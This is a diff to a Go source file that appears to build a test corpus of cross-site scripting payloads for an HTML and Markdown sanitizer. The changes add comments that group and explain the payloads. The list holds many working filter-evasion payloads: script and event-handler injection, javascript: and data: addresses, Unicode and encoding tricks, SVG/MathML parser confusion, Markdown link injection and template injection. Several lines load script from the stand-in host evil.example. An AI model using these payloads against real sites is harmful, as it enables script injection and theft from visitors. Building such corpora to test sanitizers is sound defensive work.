@@ -3,7 +3,7 @@ package payload
 import "strings"
 
 // Texts returns the payloads: a list of known ones, and the products of what
-// varies in them.
+// varies in them. The order is fixed, so that a failing page can be found again.
 func Texts() []string {
 	all := append([]string(nil), known[:]...)
 	all = append(all, schemes()...)
@@ -11,7 +11,9 @@ func Texts() []string {
 }
 
 // schemes hides a scheme that runs in the ways that readers of addresses have
-// fallen for.
+// fallen for: case, white space and control characters before and inside it,
+// letters that fold to ASCII ones (ſ to s), escapes that HTML or the URL resolves
+// later, and another scheme or host around it.
 func schemes() []string {
 	var all []string
 	for _, s := range []string{"javascript:alert(1)", "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>"} {
@@ -26,7 +28,9 @@ func schemes() []string {
 }
 
 // tags begins elements in the ways that one reader takes for text and another
-// for markup, after what ends or begins a block in Markdown.
+// for markup, after what ends or begins a block in Markdown. Some names fold to a
+// known one only in Unicode (ſcript, linK with the Kelvin sign): a browser does not
+// fold them, a filter might.
 func tags() []string {
 	var all []string
 	for _, name := range []string{
@@ -39,6 +43,7 @@ func tags() []string {
 	} {
 		all = append(all, before+"<img src=x onerror=alert(1)>", before+"<script>alert(1)</script>")
 	}
+	// Attributes in braces are an extension of some readers of Markdown.
 	for _, attrs := range []string{"onclick=alert(1)", `style="position:fixed;inset:0"`, "#x .y onclick=alert(1)"} {
 		all = append(all, "x {"+attrs+"}", "x\n{"+attrs+"}\n===")
 	}
@@ -46,8 +51,13 @@ func tags() []string {
 }
 
 // known are attacks on those who show foreign HTML: script in tags, event
-// handlers and addresses, with the tricks that filters are known to miss.
+// handlers and addresses, with the tricks that filters are known to miss. They
+// come in groups: elements that run, foreign content (SVG and MathML, in which
+// other rules of parsing hold), elements that load, attributes that run, comments
+// and declarations, quotation marks that end an attribute, encodings, addresses,
+// and Markdown.
 var known = [...]string{
+	// Scripts, whole, broken and behind what closes the element around them.
 	`<script>alert(1)</script>`,
 	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
 	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
@@ -62,6 +72,7 @@ var known = [...]string{
 	`</p></div></article><script>alert(1)</script>`,
 	`</code></pre><script>alert(1)</script>`,
 	`</td></tr></table><script>alert(1)</script>`,
+	// Pictures: quoting that readers take apart in different ways.
 	`<img src=x onerror=alert(1)>`,
 	`<img src="x" onerror="alert(1)">`,
 	`<IMG """><SCRIPT>alert(1)</SCRIPT>">`,
@@ -71,6 +82,8 @@ var known = [...]string{
 	`<img srcset=x onerror=alert(1)>`,
 	`<img src="javascript:alert(1)">`,
 	`<image src=x onerror=alert(1)>`,
+	// Drawings and formulas, in which a parser follows other rules, so that a
+	// filter's tree and a browser's may differ.
 	`<svg onload=alert(1)>`,
 	`<svg/onload=alert(1)>`,
 	`<svg><script>alert(1)</script></svg>`,
@@ -84,7 +97,9 @@ var known = [...]string{
 	`<math><annotation-xml encoding="text/html"><xmp></xmp><img src=x onerror=alert(1)></xmp>`,
 	`<math href="javascript:alert(1)">x</math>`,
 	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
+	// Text to a browser with scripting, elements to one without.
 	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+	// Elements that load something by themselves.
 	`<iframe src=javascript:alert(1)>`,
 	`<iframe srcdoc="<script>alert(1)</script>">`,
 	`<iframe src="data:text/html,<script>alert(1)</script>">`,
@@ -98,11 +113,13 @@ var known = [...]string{
 	`<link rel=import href=//evil.example>`,
 	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
 	`<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
+	// Styles, which could run scripts once and can still cover a page.
 	`<style>@import'//evil.example/x.css';</style>`,
 	`<style>*{background:url(javascript:alert(1))}</style>`,
 	`<div style="width:expression(alert(1))">`,
 	`<div style="background:url(javascript:alert(1))">`,
 	`<div style=-moz-binding:url(//evil.example/x.xml#x)>`,
+	// Attributes that run without a click.
 	`<body onload=alert(1)>`,
 	`<body background=javascript:alert(1)>`,
 	`<input autofocus onfocus=alert(1)>`,
@@ -121,6 +138,7 @@ var known = [...]string{
 	`<frameset onload=alert(1)>`,
 	`<table background=javascript:alert(1)>`,
 	`<td background="javascript:alert(1)">`,
+	// What waits for a click.
 	`<a href="javascript:alert(1)">x</a>`,
 	`<a href=javas&#99;ript:alert(1)>x</a>`,
 	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
@@ -128,6 +146,7 @@ var known = [...]string{
 	`<a href="x" style="position:fixed;inset:0">x</a>`,
 	`<x onclick=alert(1)>x</x>`,
 	`<xss style="behavior:url(x.htc)">`,
+	// Comments, declarations and the elements that swallow what follows.
 	`<!--<img src="--><img src=x onerror=alert(1)//">`,
 	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
 	`<![CDATA[<script>alert(1)</script>]]>`,
@@ -138,6 +157,7 @@ var known = [...]string{
 	`<template><script>alert(1)</script></template>`,
 	`<plaintext>`,
 	`<xmp><script>alert(1)</script></xmp>`,
+	// Marks that end the attribute in which they stand.
 	`" onmouseover="alert(1)`,
 	`' onmouseover='alert(1)`,
 	"` onmouseover=alert(1)",
@@ -145,11 +165,13 @@ var known = [...]string{
 	`'><script>alert(1)</script>`,
 	`"/><img src=x onerror=alert(1)>`,
 	`x" autofocus onfocus=alert(1) x="`,
+	// Escapes, which become tags where text is resolved once too often.
 	`&lt;script&gt;alert(1)&lt;/script&gt;`,
 	`&#60;script&#62;alert(1)&#60;/script&#62;`,
 	`&#x3c;script&#x3e;alert(1)`,
 	`%3Cscript%3Ealert(1)%3C/script%3E`,
 	"\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+	// Control and invisible characters, and bytes of other encodings.
 	"<\x00script>alert(1)</script>",
 	"<scr\x00ipt>alert(1)</scr\x00ipt>",
 	"<\u200bscript>alert(1)</script>",
@@ -158,6 +180,7 @@ var known = [...]string{
 	"\xbcscript\xbealert(1)\xbc/script\xbe",
 	"\xc0\xbcscript>alert(1)",
 	"\xf0<script>alert(1)</script>",
+	// Addresses that run, written as browsers still read them.
 	"javascript:alert(1)",
 	"JaVaScRiPt:alert(1)",
 	" javascript:alert(1)",
@@ -180,6 +203,7 @@ var known = [...]string{
 	"vbscript:msgbox(1)",
 	"livescript:x",
 	"mocha:x",
+	// Addresses that hold a document, or lead into the reader's own machine.
 	"data:text/html,<script>alert(1)</script>",
 	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
 	"data:image/svg+xml,<svg onload=alert(1)>",
@@ -191,12 +215,14 @@ var known = [...]string{
 	"blob:https://news.example/x",
 	"filesystem:https://news.example/x",
 	"about:blank",
+	// Addresses that look relative and are not, or not the other way.
 	"//evil.example/x.js",
 	"/\\evil.example",
 	"\\\\evil.example",
 	"https:javascript:alert(1)",
 	"https:\\\\evil.example",
 	"http://[::1]:x/\"onload=alert(1)",
+	// Sound hosts with something behind them that leaves the attribute.
 	"https://news.example/\" onmouseover=\"alert(1)",
 	"https://news.example/' onmouseover='alert(1)",
 	"https://news.example/<script>alert(1)</script>",
@@ -206,6 +232,7 @@ var known = [...]string{
 	"https://news.example/>)<script>alert(1)</script>",
 	"mailto:x@news.example?body=<script>alert(1)</script>",
 	"mailto:\"><script>alert(1)</script>@x",
+	// Links, code and tables of Markdown.
 	"[x](javascript:alert(1))",
 	"[x]: javascript:alert(1)\n[x]",
 	"![x](javascript:alert(1))",
@@ -218,6 +245,7 @@ var known = [...]string{
 	"    <script>alert(1)</script>",
 	"|\n|-|\n|<script>alert(1)</script>|",
 	"\n\n<script>alert(1)</script>\n\n",
+	// Templates of programs that may show the output.
 	"{{constructor.constructor('alert(1)')()}}",
 	"${alert(1)}",
 }
